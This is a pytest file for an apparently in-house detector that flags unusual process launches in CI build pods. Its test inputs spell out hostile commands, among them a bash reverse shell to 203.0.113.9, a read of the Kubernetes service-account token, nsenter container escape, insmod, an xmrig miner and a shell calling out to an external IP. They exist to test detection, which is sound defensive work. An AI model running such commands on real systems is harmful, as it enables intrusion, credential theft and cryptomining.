"""Where a workload runs its users' commands, one more tool is nobody's alert; what no command of theirs needs still is."""

import pytest
from detection.cluster import Cluster, Replica, alerts, analyse
from peerwatch.columns import ProcessFlag

from collector.analysis.meaning import VARIETY
from collector.records import Severity

DOER = "/opt/ci/workd"
BASH = "/usr/bin/bash"


def builds(cluster: Cluster, pods: list[Replica], programs: int) -> None:
    """Let runners build for half an hour: each job is a shell with some of so many programs."""
    for beat in range(90):
        for number, pod in enumerate(pods):
            at = 30 + 20 * beat + 0.7 * number
            shell = cluster.exec(at, pod, BASH, parent=DOER, args=("bash", "/builds/job.sh"))
            for step in range(4):
                program = f"/usr/bin/build-{chr(97 + (4 * beat + step) % programs)}"
                cluster.exec(at + 0.1 * (step + 1), pod, program, parent=BASH, parent_pid=shell)


def runs(cluster: Cluster, at: float, pod: Replica, exe: str, *args: str) -> None:
    shell = cluster.exec(at, pod, BASH, parent=DOER, args=("bash", "/builds/job.sh"))
    cluster.exec(at + 0.1, pod, exe, parent=BASH, args=args or (exe,), parent_pid=shell)


@pytest.mark.parametrize(("programs", "told"), [(VARIETY + 4, False), (VARIETY // 2, True)])
@pytest.mark.parametrize("tool", ["ssh", "nc", "kubectl"])
def test_who_starts_many_programs_may_start_another(cluster: Cluster, tool: str, programs: int, *, told: bool) -> None:
    pods = cluster.pods(4)
    builds(cluster, pods, programs)
    runs(cluster, 1700.5, pods[1], f"/usr/bin/{tool}")

    assert bool(alerts(analyse(cluster, until=2000))) is told


def test_one_replica_cannot_make_it_the_workload_s_business(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    builds(cluster, pods, VARIETY // 2)
    for number in range(2 * VARIETY):  # what an intruder who knows the rule would try first
        runs(cluster, 300.5 + 40 * number, pods[1], f"/usr/bin/other-{chr(97 + number % 26)}{chr(97 + number // 26)}")
    runs(cluster, 1700.5, pods[1], "/usr/bin/nc")

    told = alerts(analyse(cluster, until=2000))

    assert any("/usr/bin/nc <- " in behaviour.key for alert in told for behaviour in alert.behaviours)


@pytest.mark.parametrize(
    ("exe", "args"),
    [
        ("/usr/bin/nsenter", ("nsenter", "-t", "1", "-m", "sh")),
        ("/usr/bin/cat", ("cat", "/var/run/secrets/kubernetes.io/serviceaccount/token")),
        ("/usr/bin/insmod", ("insmod", "x.ko")),
        ("/srv/xmrig", ("xmrig",)),
    ],
)
def test_what_no_build_needs_is_told_of_builds_as_well(cluster: Cluster, exe: str, args: tuple[str, ...]) -> None:
    pods = cluster.pods(4)
    builds(cluster, pods, VARIETY + 4)
    runs(cluster, 1700.5, pods[1], exe, *args)

    (alert,) = alerts(analyse(cluster, until=2000))

    assert [each.pod for each in alert.replicas] == [pods[1].name]


def test_what_is_known_bad_is_told_of_builds_as_well(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    builds(cluster, pods, VARIETY + 4)
    cluster.exec(1700.5, pods[1], "memfd:x", parent=BASH, flags=(ProcessFlag.MEMFD,))
    runs(cluster, 1800.5, pods[2], BASH, "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1")

    told = alerts(analyse(cluster, until=2000))

    assert {(each.severity, each.replicas[0].pod) for each in told} == {(Severity.CRITICAL, each.name) for each in pods[1:3]}


def test_a_shell_that_itself_reaches_outside_is_nobody_s_build(cluster: Cluster) -> None:
    pods = cluster.pods(4)
    builds(cluster, pods, VARIETY + 4)
    cluster.connect(1700.5, pods[1], BASH, ("45.9.148.99", 8081))

    (alert,) = alerts(analyse(cluster, until=2000))

    assert [each.pod for each in alert.replicas] == [pods[1].name]


def test_a_build_that_executes_a_new_file_each_time_is_told_once_at_most(cluster: Cluster) -> None:
    pods = cluster.pods(3)
    builds(cluster, pods, VARIETY + 4)
    for turn in range(40):
        runs(cluster, 100.5 + 40 * turn, pods[turn % 3], f"/tmp/t{turn * 7919 % 99991:05d}q")

    assert len(alerts(analyse(cluster, until=2000))) <= 1
